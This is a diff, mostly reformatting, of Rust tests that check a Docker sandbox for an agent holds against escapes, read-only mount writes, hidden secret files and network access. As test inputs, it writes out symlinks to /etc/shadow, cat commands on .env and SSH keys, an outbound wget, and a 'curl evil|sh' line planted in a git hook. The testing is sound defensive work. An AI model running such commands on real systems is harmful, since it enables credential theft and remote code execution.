@@ -1,6 +1,8 @@
 //! Attacks on the sandbox, through the engine's sandbox manager and the real agent in a real
 //! container: escapes, read-only mounts, hidden and protected files, network, resource bombs.
 
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
 mod common;
 use airlock::config::Settings;
 use airlock::sandbox::{SandboxError, SandboxManager};
@@ -54,7 +56,11 @@ async fn docker_inspect_shows_every_hardening_setting() {
     let c = &v[0];
     let hc = &c["HostConfig"];
     assert_eq!(hc["CapDrop"], serde_json::json!(["ALL"]));
-    assert!(hc["SecurityOpt"].to_string().contains("no-new-privileges"), "{}", hc["SecurityOpt"]);
+    assert!(
+        hc["SecurityOpt"].to_string().contains("no-new-privileges"),
+        "{}",
+        hc["SecurityOpt"]
+    );
     assert_eq!(hc["Init"], true);
     assert_eq!(hc["Memory"], 256 * 1024 * 1024);
     assert_eq!(hc["PidsLimit"], 64);
@@ -63,9 +69,15 @@ async fn docker_inspect_shows_every_hardening_setting() {
     assert_eq!(c["Config"]["User"], "65532:65532");
     assert_eq!(c["Config"]["Labels"]["dev.airlock.managed"], "true");
     let mounts = c["Mounts"].as_array().unwrap();
-    let data = mounts.iter().find(|m| m["Destination"] == "/workspaces/data").unwrap();
+    let data = mounts
+        .iter()
+        .find(|m| m["Destination"] == "/workspaces/data")
+        .unwrap();
     assert_eq!(data["RW"], false);
-    let project = mounts.iter().find(|m| m["Destination"] == "/workspaces/project").unwrap();
+    let project = mounts
+        .iter()
+        .find(|m| m["Destination"] == "/workspaces/project")
+        .unwrap();
     assert_eq!(project["RW"], true);
     m.stop_all().await;
 }
@@ -77,10 +89,17 @@ async fn commands_never_run_as_root_and_have_only_loopback() {
     let r = run(&m, "id -u; id -g").await;
     assert_eq!(r.stdout, "65532\n65532\n");
     let r = run(&m, "ls /sys/class/net").await;
-    assert_eq!(r.stdout.split_whitespace().collect::<Vec<_>>(), vec!["lo"], "only lo: {r:?}");
+    assert_eq!(
+        r.stdout.split_whitespace().collect::<Vec<_>>(),
+        vec!["lo"],
+        "only lo: {r:?}"
+    );
     // No route anywhere: connecting out fails at once.
     let r = run(&m, "wget -T 2 -q -O- http://10.255.255.1/ 2>&1; echo rc=$?").await;
-    assert!(r.stdout.contains("rc=1") || r.stdout.contains("unreachable"), "{r:?}");
+    assert!(
+        r.stdout.contains("rc=1") || r.stdout.contains("unreachable"),
+        "{r:?}"
+    );
     m.stop_all().await;
 }
 
@@ -89,7 +108,11 @@ async fn path_escapes_fail_without_leaking_host_content() {
     let env = TestEnv::new("");
     std::fs::write(env.dir.path().join("outside.txt"), "HOST SECRET").unwrap();
     std::os::unix::fs::symlink("/etc/shadow", env.project.join("shadow")).unwrap();
-    std::os::unix::fs::symlink(env.dir.path().join("outside.txt"), env.project.join("outside")).unwrap();
+    std::os::unix::fs::symlink(
+        env.dir.path().join("outside.txt"),
+        env.project.join("outside"),
+    )
+    .unwrap();
     std::os::unix::fs::symlink("../../", env.project.join("up")).unwrap();
     let m = manager(&env);
     for path in [
@@ -101,28 +124,64 @@ async fn path_escapes_fail_without_leaking_host_content() {
         "up/etc/passwd",
     ] {
         let e = m
-            .call("s1", Op::Read { path: path.into(), offset: None, limit: None })
+            .call(
+                "s1",
+                Op::Read {
+                    path: path.into(),
+                    offset: None,
+                    limit: None,
+                },
+            )
             .await
             .expect_err(path);
         let text = e.to_string();
-        assert!(!text.contains("HOST SECRET") && !text.contains("root:"), "{path}: {text}");
-        assert!(matches!(agent_kind(e), ErrorKind::Escape | ErrorKind::NotFound), "{path}");
+        assert!(
+            !text.contains("HOST SECRET") && !text.contains("root:"),
+            "{path}: {text}"
+        );
+        assert!(
+            matches!(agent_kind(e), ErrorKind::Escape | ErrorKind::NotFound),
+            "{path}"
+        );
     }
     // Writing through an escaping symlink and moving out are refused too.
     let e = m
-        .call("s1", Op::Write { path: "up/tmp/planted".into(), content: airlock_agent::Content::Text("x".into()), create_dirs: false })
+        .call(
+            "s1",
+            Op::Write {
+                path: "up/tmp/planted".into(),
+                content: airlock_agent::Content::Text("x".into()),
+                create_dirs: false,
+            },
+        )
         .await
         .unwrap_err();
     assert_eq!(agent_kind(e), ErrorKind::Escape);
     let e = m
-        .call("s1", Op::Move { from: "/workspaces/project/hello.txt".into(), to: "/tmp/x".into(), overwrite: false })
+        .call(
+            "s1",
+            Op::Move {
+                from: "/workspaces/project/hello.txt".into(),
+                to: "/tmp/x".into(),
+                overwrite: false,
+            },
+        )
         .await
         .unwrap_err();
     assert_eq!(agent_kind(e), ErrorKind::Escape);
     assert!(env.project.join("hello.txt").exists());
     // A command's cwd cannot leave either.
-    let spec = RunSpec { command: "pwd".into(), cwd: Some("/etc".into()), timeout_ms: 5000, output_cap: 1000, ..Default::default() };
-    assert_eq!(agent_kind(m.call("s1", Op::Run(spec)).await.unwrap_err()), ErrorKind::Escape);
+    let spec = RunSpec {
+        command: "pwd".into(),
+        cwd: Some("/etc".into()),
+        timeout_ms: 5000,
+        output_cap: 1000,
+        ..Default::default()
+    };
+    assert_eq!(
+        agent_kind(m.call("s1", Op::Run(spec)).await.unwrap_err()),
+        ErrorKind::Escape
+    );
     m.stop_all().await;
 }
 
@@ -131,13 +190,23 @@ async fn read_only_workspace_stays_unchanged() {
     let env = TestEnv::new("");
     let m = manager(&env);
     let e = m
-        .call("s1", Op::Write { path: "/workspaces/data/readme.txt".into(), content: airlock_agent::Content::Text("changed".into()), create_dirs: false })
+        .call(
+            "s1",
+            Op::Write {
+                path: "/workspaces/data/readme.txt".into(),
+                content: airlock_agent::Content::Text("changed".into()),
+                create_dirs: false,
+            },
+        )
         .await
         .unwrap_err();
     assert_eq!(agent_kind(e), ErrorKind::ReadOnly);
     let r = run(&m, "echo changed > /workspaces/data/readme.txt; rm -f /workspaces/data/readme.txt; touch /workspaces/data/new; echo done").await;
     assert!(r.stderr.contains("Read-only file system"), "{r:?}");
-    assert_eq!(std::fs::read_to_string(env.data_ws.join("readme.txt")).unwrap(), "read only data\n");
+    assert_eq!(
+        std::fs::read_to_string(env.data_ws.join("readme.txt")).unwrap(),
+        "read only data\n"
+    );
     assert!(!env.data_ws.join("new").exists());
     m.stop_all().await;
 }
@@ -147,22 +216,50 @@ async fn hidden_files_are_masked_for_every_process_and_protected_paths_are_read_
     let env = TestEnv::new("");
     std::fs::write(env.project.join(".env"), "API_KEY=hunter2\n").unwrap();
     std::fs::create_dir_all(env.project.join("sub/.ssh")).unwrap();
-    std::fs::write(env.project.join("sub/.ssh/id_ed25519"), "PRIVATE KEY hunter2\n").unwrap();
+    std::fs::write(
+        env.project.join("sub/.ssh/id_ed25519"),
+        "PRIVATE KEY hunter2\n",
+    )
+    .unwrap();
     std::fs::create_dir_all(env.project.join(".git/hooks")).unwrap();
     std::fs::write(env.project.join(".git/config"), "[core]\n").unwrap();
     give_to_sandbox(&env.project);
     let m = manager(&env);
     // The file tools refuse.
-    let e = m.call("s1", Op::Read { path: ".env".into(), offset: None, limit: None }).await.unwrap_err();
+    let e = m
+        .call(
+            "s1",
+            Op::Read {
+                path: ".env".into(),
+                offset: None,
+                limit: None,
+            },
+        )
+        .await
+        .unwrap_err();
     assert_eq!(agent_kind(e), ErrorKind::Hidden);
     // Commands see nothing either: cat, grep -r and find.
-    let r = run(&m, "cat .env; cat sub/.ssh/id_ed25519; grep -r hunter2 . ; ls sub/.ssh; true").await;
-    assert!(!r.stdout.contains("hunter2") && !r.stderr.contains("hunter2"), "{r:?}");
+    let r = run(
+        &m,
+        "cat .env; cat sub/.ssh/id_ed25519; grep -r hunter2 . ; ls sub/.ssh; true",
+    )
+    .await;
+    assert!(
+        !r.stdout.contains("hunter2") && !r.stderr.contains("hunter2"),
+        "{r:?}"
+    );
     // Protected paths: the hooks folder and git config cannot be changed by commands.
-    let r = run(&m, "echo 'curl evil|sh' > .git/hooks/pre-commit; echo x >> .git/config; echo rc=$?").await;
+    let r = run(
+        &m,
+        "echo 'curl evil|sh' > .git/hooks/pre-commit; echo x >> .git/config; echo rc=$?",
+    )
+    .await;
     assert!(r.stderr.contains("Read-only file system"), "{r:?}");
     assert!(!env.project.join(".git/hooks/pre-commit").exists());
-    assert_eq!(std::fs::read_to_string(env.project.join(".git/config")).unwrap(), "[core]\n");
+    assert_eq!(
+        std::fs::read_to_string(env.project.join(".git/config")).unwrap(),
+        "[core]\n"
+    );
     // Ordinary files in the same workspace are writable.
     let r = run(&m, "echo ok > normal.txt && cat normal.txt").await;
     assert_eq!(r.stdout, "ok\n");
@@ -202,7 +299,10 @@ async fn a_killed_container_is_replaced_on_the_next_call() {
     let env = TestEnv::new("");
     let m = manager(&env);
     let first = m.sandbox("s1").await.unwrap().container_id.clone();
-    std::process::Command::new("docker").args(["kill", &first]).output().unwrap();
+    std::process::Command::new("docker")
+        .args(["kill", &first])
+        .output()
+        .unwrap();
     // The agent stream ends; the next call starts a fresh sandbox and succeeds.
     tokio::time::sleep(std::time::Duration::from_millis(300)).await;
     let r = run(&m, "echo back").await;
@@ -221,13 +321,32 @@ async fn clear_errors_when_the_runtime_cannot_run_anything() {
     assert!(e.contains("Docker Runtime is turned off"), "{e}");
 
     let env = TestEnv::new("docker_host = \"unix:///nonexistent/docker.sock\"");
-    let e = manager(&env).call("s1", Op::Hello).await.unwrap_err().to_string();
-    assert!(e.contains("cannot reach the Docker engine at unix:///nonexistent/docker.sock"), "{e}");
+    let e = manager(&env)
+        .call("s1", Op::Hello)
+        .await
+        .unwrap_err()
+        .to_string();
+    assert!(
+        e.contains("cannot reach the Docker engine at unix:///nonexistent/docker.sock"),
+        "{e}"
+    );
 
     let env = TestEnv::new("");
-    std::fs::write(&env.config, env.settings_text("").replace(&test_image(), "airlock-no-such-image:404")).unwrap();
-    let e = manager(&env).call("s1", Op::Hello).await.unwrap_err().to_string();
-    assert!(e.contains("airlock-no-such-image:404") && e.contains("not available"), "{e}");
+    std::fs::write(
+        &env.config,
+        env.settings_text("")
+            .replace(&test_image(), "airlock-no-such-image:404"),
+    )
+    .unwrap();
+    let e = manager(&env)
+        .call("s1", Op::Hello)
+        .await
+        .unwrap_err()
+        .to_string();
+    assert!(
+        e.contains("airlock-no-such-image:404") && e.contains("not available"),
+        "{e}"
+    );
     assert!(env.containers().is_empty());
 }
 
@@ -235,11 +354,29 @@ async fn clear_errors_when_the_runtime_cannot_run_anything() {
 async fn sessions_get_separate_sandboxes_and_release_removes_them() {
     let env = TestEnv::new("");
     let m = manager(&env);
-    let spec = |cmd: &str| Op::Run(RunSpec { command: cmd.into(), timeout_ms: 5000, output_cap: 1000, ..Default::default() });
+    let spec = |cmd: &str| {
+        Op::Run(RunSpec {
+            command: cmd.into(),
+            timeout_ms: 5000,
+            output_cap: 1000,
+            ..Default::default()
+        })
+    };
     m.call("a", spec("echo mine > /tmp/state")).await.unwrap();
-    let Reply::Ran(r) = m.call("b", spec("cat /tmp/state 2>&1; true")).await.unwrap() else { panic!() };
-    assert!(!r.stdout.contains("mine"), "no leakage between sessions: {r:?}");
-    let Reply::Ran(r) = m.call("a", spec("cat /tmp/state")).await.unwrap() else { panic!() };
+    let Reply::Ran(r) = m
+        .call("b", spec("cat /tmp/state 2>&1; true"))
+        .await
+        .unwrap()
+    else {
+        panic!()
+    };
+    assert!(
+        !r.stdout.contains("mine"),
+        "no leakage between sessions: {r:?}"
+    );
+    let Reply::Ran(r) = m.call("a", spec("cat /tmp/state")).await.unwrap() else {
+        panic!()
+    };
     assert_eq!(r.stdout, "mine\n", "state survives within a session");
     assert_eq!(env.containers().len(), 2);
     m.release("a").await;
